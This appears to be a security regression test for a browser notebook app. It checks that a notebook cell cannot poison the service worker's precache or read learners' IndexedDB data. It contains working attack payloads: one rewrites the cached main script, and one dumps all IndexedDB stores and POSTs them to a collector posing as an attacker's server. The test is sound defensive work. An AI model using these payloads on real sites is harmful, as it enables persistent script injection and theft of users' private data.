/**
 * Issue 10, items 1 and 2: a cell runs in the kernel's own, opaque origin, so it can
 * neither plant a script in the service worker's precache (which would run in the page on
 * every later visit) nor read the learner's notebooks, edits and progress from IndexedDB
 * and send them away. Each attack runs from the cell itself and from a worker the cell
 * starts (a nested blob: worker would get back what a same-origin kernel took away).
 */
import { createServer, type Server } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { LESSON, cell, setCellCode, useBrowser, waitForStatus } from './browser';

const { browser, siteUrl } = useBrowser();

/** A second loopback origin that records what reaches it, as an attacker's server would. */
let collector: Server;
let collectorUrl = '';
const received: string[] = [];

beforeAll(async () => {
  collector = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      if (request.method === 'POST') received.push(body);
      response.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
      response.end();
    });
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  const address = collector.address();
  if (!address || typeof address === 'string') throw new Error('collector has no port');
  collectorUrl = `http://127.0.0.1:${address.port}/collect`;
});

afterAll(() => new Promise<void>((resolve) => collector.close(() => resolve())));

/** Replaces the precached app script with one that marks the page (an async function's body). */
const POISON = `
const names = await caches.keys();
const precache = names.find((name) => name.includes('precache'));
const cache = await caches.open(precache);
const main = (await cache.keys()).find((request) => /assets\\/main-[^/]*\\.js/.test(request.url));
const original = await (await cache.match(main)).text();
await cache.put(main, new Response('self.__planted = true;\\n' + original, {
  headers: { 'content-type': 'text/javascript' },
}));
return 'planted in ' + precache;`;

/** Reads every IndexedDB database of the origin and posts it to the collector (a function body). */
const EXFILTRATE = `
const dump = {};
for (const { name } of await indexedDB.databases()) {
  const db = await new Promise((ok, fail) => {
    const open = indexedDB.open(name);
    open.onsuccess = () => ok(open.result);
    open.onerror = () => fail(open.error);
  });
  for (const store of db.objectStoreNames) {
    dump[name + '/' + store] = await new Promise((ok) => {
      const all = db.transaction(store).objectStore(store).getAll();
      all.onsuccess = () => ok(all.result);
    });
  }
}
await fetch(COLLECTOR, { method: 'POST', body: JSON.stringify(dump) });
return 'sent ' + Object.keys(dump).length + ' stores';`;

/** A cell that runs the attack itself. */
const inCell = (attack: string): string => `await (async () => {${attack}\n})()`;

/** A cell that runs the attack in a blob: worker it starts, as a cell could to get back what the kernel lacks. */
function inNestedWorker(attack: string): string {
  const source = `onmessage = async () => {
    try { postMessage(String(await (async () => {${attack}\n})())); }
    catch (error) { postMessage('failed: ' + error); }
  };`;
  return `
const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}], { type: 'text/javascript' })));
const answer = await new Promise((ok) => { worker.onmessage = (event) => ok(event.data); worker.postMessage(0); });
worker.terminate();
if (String(answer).startsWith('failed')) throw new Error(String(answer));
answer`;
}

async function runCell(page: Page, id: string, code: string): Promise<string> {
  await setCellCode(page, id, code);
  await cell(page, id).getByRole('button', { name: /^Run/ }).click();
  await cell(page, id)
    .and(page.locator('[data-status="ok"], [data-status="error"]'))
    .waitFor({ timeout: 60_000 });
  const outputs = await cell(page, id).locator('[data-testid="output"]').allInnerTexts();
  return outputs.join('\n');
}

/** Resolves once a service worker controls the page, reloading once if it was installed late. */
async function waitForController(page: Page): Promise<void> {
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  const controlled = await page.evaluate(() => navigator.serviceWorker.controller !== null);
  if (!controlled) await page.reload();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
}

describe('a cell cannot reach the page’s storage', () => {
  test('it cannot plant a script in the precache, directly or from a nested worker', async () => {
    // Service workers on: the precache is the target.
    const context = await browser().newContext();
    const page = await context.newPage();
    await page.goto(`${siteUrl}#/lesson/${LESSON}`);
    await waitForController(page);
    const precacheBefore = await page.evaluate(() => caches.keys());

    // A cell that never ran per attack, so its status says when this run ended.
    for (const [id, code] of [
      ['tensors', inCell(POISON)],
      ['model', inNestedWorker(POISON)],
    ]) {
      const output = await runCell(page, id, code);
      expect(output).not.toMatch(/planted/);
    }

    // Reopen the app: the page runs its own script, and the precache still holds it.
    await page.reload();
    await cell(page, 'load').waitFor();
    expect(await page.evaluate(() => Reflect.get(self, '__planted'))).toBeUndefined();
    expect(await page.evaluate(() => caches.keys())).toEqual(precacheBefore);
    const tampered = await page.evaluate(async () => {
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
          if (!/assets\/main-[^/]*\.js/.test(request.url)) continue;
          const text = (await (await cache.match(request))?.text()) ?? '';
          if (text.includes('__planted')) return request.url;
        }
      }
      return null;
    });
    expect(tampered).toBeNull();
    await context.close();
  });

  test('it cannot read the learner’s notebooks and progress, directly or from a nested worker', async () => {
    const context = await browser().newContext({ serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.goto(`${siteUrl}#/lesson/${LESSON}`);
    // Something worth stealing: an edit the page saves to IndexedDB.
    await setCellCode(page, 'model', '// my private answer 4242');
    await page.waitForFunction(async () => (await indexedDB.databases()).length > 0);
    await cell(page, 'load').getByRole('button', { name: /^Run/ }).click();
    await waitForStatus(page, 'load', 'ok');

    const attack = EXFILTRATE.replace('COLLECTOR', JSON.stringify(collectorUrl));
    for (const [id, code] of [
      ['tensors', inCell(attack)],
      ['grad', inNestedWorker(attack)],
    ]) {
      const output = await runCell(page, id, code);
      expect(output).not.toMatch(/sent \d+ stores/);
    }
    // The collector is reachable from a cell (the kernel may call any API), yet got nothing.
    const ping = await runCell(
      page,
      'exact',
      `(await fetch(${JSON.stringify(collectorUrl)}, { method: 'POST', body: 'ping' })).status`,
    );
    expect(ping).toBe('204');
    expect(received).toEqual(['ping']);
    await context.close();
  });
});
